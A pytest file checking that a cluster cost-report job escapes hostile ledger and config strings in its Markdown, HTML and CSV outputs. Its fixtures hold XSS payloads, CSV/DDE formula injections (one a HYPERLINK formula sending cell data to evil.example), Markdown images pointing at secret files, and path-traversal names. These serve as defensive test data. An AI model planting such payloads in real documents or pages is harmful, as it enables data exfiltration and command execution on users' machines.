"""The cost report shows hostile strings as text: a ledger row or a config value carrying a
Markdown image of a local file, a spreadsheet formula or raw HTML is inert in report.md,
report.html and the CSVs; report.html embeds only the charts the job drew; the report's name is
a folder name.

Any pod holding the ledger URL can write a row, so the ledger's strings are not trusted."""

import base64
import csv
import datetime as dt
import io
import json
import re
from html.parser import HTMLParser
from pathlib import Path

import pandas as pd
import pytest
import sqlalchemy as sa
import yaml
from markdown_it import MarkdownIt
from PIL import Image

from cluster.config import ConfigError, load_config
from cluster.ledger import Allocation, Ledger, utcnow
from jobs import cost_report
from jobs.cost import report
from jobs.cost.charts import CHARTS
from jobs.cost.config import CostConfig
from jobs.cost.sources import InventorySources
from tests.jobs.cost.samples import bench_json

REPO = Path(__file__).resolve().parents[3]
SECRET = "AWS_SECRET_ACCESS_KEY=not-a-real-key-4711\n"
FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")
NUMBER = re.compile(r"[+-]?\$?[0-9.,]*%?(?:[eE][+-]?[0-9]+)?")  # what a spreadsheet reads as one


def _png(path: Path, color: tuple[int, int, int]) -> None:
    Image.new("RGB", (4, 3), color).save(path)


class Page(HTMLParser):
    """Every tag, and the src of every image, in an HTML page."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.srcs: list[str] = []
        self.events: list[str] = []

    def handle_starttag(self, tag, attrs):
        self.tags.add(tag)
        a = dict(attrs)
        if tag == "img":
            self.srcs.append(a.get("src") or "")
        self.events += [k for k in a if k.startswith("on")]


def live_markdown(text: str) -> list[str]:
    """What a Markdown viewer that allows raw HTML (as GitHub/GitLab do) would make live."""
    md = MarkdownIt("commonmark", {"html": True}).enable("table")
    live = []
    for token in md.parse(text):
        if token.type.startswith("html"):
            live.append(f"{token.type}: {token.content.strip()}")
        for child in token.children or []:
            if child.type in ("image", "link_open", "html_inline"):
                live.append(f"{child.type}: {child.attrGet('src') or child.attrGet('href')}")
    return live


@pytest.fixture
def hostile_report(platform_root, monkeypatch, tmp_path) -> tuple[Path, Path]:
    """A report written from a ledger with hostile rows (written straight to the database, as
    a pod with the ledger URL could) and a hostile API name and source in the config."""
    monkeypatch.chdir(REPO)
    secret = tmp_path / "driver.env"
    secret.write_text(SECRET)
    ledger = Ledger()
    t0 = utcnow() - dt.timedelta(days=1)
    rows = [
        (f"![env]({secret})", '=HYPERLINK("http://evil.example/?k="&A1,"open")'),
        ("<img src=x onerror=alert(1)>", "@SUM(1+1)*cmd|' /C calc'!A0"),
        (f"[click](http://evil.example)\n\n![x]({secret})", "+1+1"),
    ]
    for kind, status in rows:
        wid = ledger.start("serve", "demo", started_at=t0)
        ledger.finish(wid, "SUCCEEDED", [Allocation("CPU", cpus=1, nodes=0.5)], ended_at=utcnow())
        with ledger.engine.begin() as conn:
            conn.execute(
                sa.text("UPDATE workloads SET kind = :k, status = :s WHERE id = :i"),
                {"k": kind, "s": status, "i": wid},
            )
    bench = platform_root / "reports" / "bench" / "b1" / "bench.json"
    bench.parent.mkdir(parents=True)
    bench.write_text(json.dumps(bench_json()))
    api = {
        "name": f"<script>alert(1)</script> gpt ![k]({secret})",
        "input_usd_per_1m": 3.75,
        "output_usd_per_1m": 15.0,
        "training_usd_per_1m": 25.0,
        "source": "=cmd|' /C calc'!A0 & <b>bold</b>",
    }
    override = "api=" + yaml.safe_dump([api], default_flow_style=True, width=1000).strip()

    def charts(result, folder):  # the real charts take ~30 s; what is embedded is the point
        for i, name in enumerate(CHARTS):
            _png(folder / name, (200, i, 0))  # each a different PNG
        return list(CHARTS)

    monkeypatch.setattr(report, "draw_all", charts)
    rc = cost_report.main(["--config", "jobs/configs/cost/demo.yaml", "name=hostile", override])
    assert rc == 0
    return platform_root / "reports" / "cost" / "hostile", secret


def test_hostile_ledger_and_config_strings_stay_text(hostile_report):
    folder, secret = hostile_report
    md = (folder / "report.md").read_text()
    page = (folder / "report.html").read_text()

    # report.md: nothing a viewer would make live but the charts the job drew
    live = live_markdown(md)
    assert live and all(x.startswith("image: ") and x[7:] in CHARTS for x in live), live
    assert "\\<script\\>" in md and "\\<img src=x" in md  # escaped, as every < is
    # ... and the strings are still there, as text
    rendered = MarkdownIt("commonmark", {"html": False}).enable("table").render(md)
    assert f"![env]({secret})" in rendered
    assert "&lt;img src=x onerror=alert(1)&gt;" in rendered

    # report.html: those charts, byte for byte, and nothing else read or live
    parsed = Page()
    parsed.feed(page)
    assert all(s.startswith("data:image/png;base64,") for s in parsed.srcs)
    drawn = [(folder / x[7:]).read_bytes() for x in live]
    assert [base64.b64decode(s.split(",", 1)[1]) for s in parsed.srcs] == drawn
    assert base64.b64encode(SECRET.encode()).decode()[:24] not in page
    assert "not-a-real-key" not in page
    assert parsed.events == [] and not parsed.tags & {"script", "a", "b"}
    assert "<title>Cost report hostile</title>" in page

    # CSVs: every text cell that a spreadsheet would run is prefixed with '
    seen = []
    for path in folder.glob("*.csv"):
        for row in csv.reader(io.StringIO(path.read_text())):
            for cell in row:
                if cell.startswith(FORMULA_PREFIXES):
                    assert NUMBER.fullmatch(cell), f"{path.name}: {cell!r}"  # only numbers may
                if "HYPERLINK" in cell or "calc" in cell or "SUM(" in cell:
                    seen.append(cell)
    assert '\'=HYPERLINK("http://evil.example/?k="&A1,"open")' in seen
    assert "'@SUM(1+1)*cmd|' /C calc'!A0" in seen
    assert "'=cmd|' /C calc'!A0 & <b>bold</b>" in seen


def test_html_embeds_only_the_charts_the_job_drew(tmp_path):
    _png(tmp_path / "cumulative.png", (0, 0, 255))
    (tmp_path / "secret.txt").write_text(SECRET)
    (tmp_path / "private.png").write_bytes(b"\x89PNG private")
    text = (
        "![chart](cumulative.png)\n\n![a](secret.txt)\n\n![b](private.png)\n\n"
        f"![c]({tmp_path / 'secret.txt'})\n\n![d](../secret.txt)\n"
    )
    page = report.html(text, tmp_path, "t", ["cumulative.png"])
    parsed = Page()
    parsed.feed(page)
    assert len(parsed.srcs) == 1
    assert (
        base64.b64decode(parsed.srcs[0].split(",", 1)[1])
        == (tmp_path / "cumulative.png").read_bytes()
    )
    assert "<p>a</p>" in page and "<p>c</p>" in page  # the others show their alt text
    assert "not-a-real-key" not in page and "private" not in page


def test_the_page_title_is_escaped_for_html(tmp_path):
    page = report.html("# x\n", tmp_path, 'Cost report </title><script>alert("t")</script>', [])
    assert "<script>" not in page
    assert "&lt;/title&gt;&lt;script&gt;" in page


@pytest.mark.parametrize(
    ("value", "shown"),
    [
        ("![e](/proc/self/environ)", "![e](/proc/self/environ)"),
        ("[a](http://x) <b>b</b> &amp; `c` | d\n# e", "[a](http://x) <b>b</b> &amp; c | d # e"),
        ("\\[a](/etc/passwd)", "\\[a](/etc/passwd)"),
    ],
)
def test_md_text_shows_its_value_literally(value, shown):
    md = MarkdownIt("commonmark", {"html": True}).enable("table")
    text = f"before {report.md_text(value)} after\n\n| h |\n|---|\n| {report.md_text(value)} |\n"
    assert live_markdown(text) == []
    inline = md.parseInline(f"{report.md_text(value)}")[0].children
    assert "".join(t.content for t in inline) == shown


def test_csv_safe_neutralises_formulas_and_keeps_numbers():
    df = pd.DataFrame(
        {
            "=evil": ["=1+1", "-12.5%", "-$1,000", "-", "+cmd", "@x", "\tx", "ok", "-1+2"],
            "n": [-1.0, 2.0, 3.0, 4.0, 5.0, 6.0, 7.0, 8.0, 9.0],
        }
    )
    out = report.csv_safe(df)
    assert list(out.columns) == ["'=evil", "n"]
    assert list(out["'=evil"]) == [
        "'=1+1", "-12.5%", "-$1,000", "-", "'+cmd", "'@x", "'\tx", "ok", "'-1+2"
    ]  # fmt: skip
    assert list(out["n"]) == list(df["n"])
    assert df.columns[0] == "=evil"  # the caller's frame is not changed


@pytest.mark.parametrize("name", ["../x", "..", "a/b", "/tmp/x", ".hidden", "a..b", "x" * 65])
def test_the_report_name_must_be_a_folder_name(name, platform_root, monkeypatch):
    monkeypatch.chdir(REPO)
    with pytest.raises(ConfigError) as err:
        load_config(CostConfig, REPO / "jobs/configs/cost/demo.yaml", [f"name={name}"])
    assert [p.field for p in err.value.problems] == ["name"]
    assert "Fix: e.g. 2026-12" in str(err.value)
    # the writer refuses it too, before it makes anything
    root = platform_root / "reports" / "cost"
    with pytest.raises(ValueError, match="names a folder"):
        report.write_report({"name": name}, root, InventorySources())
    assert not root.exists()
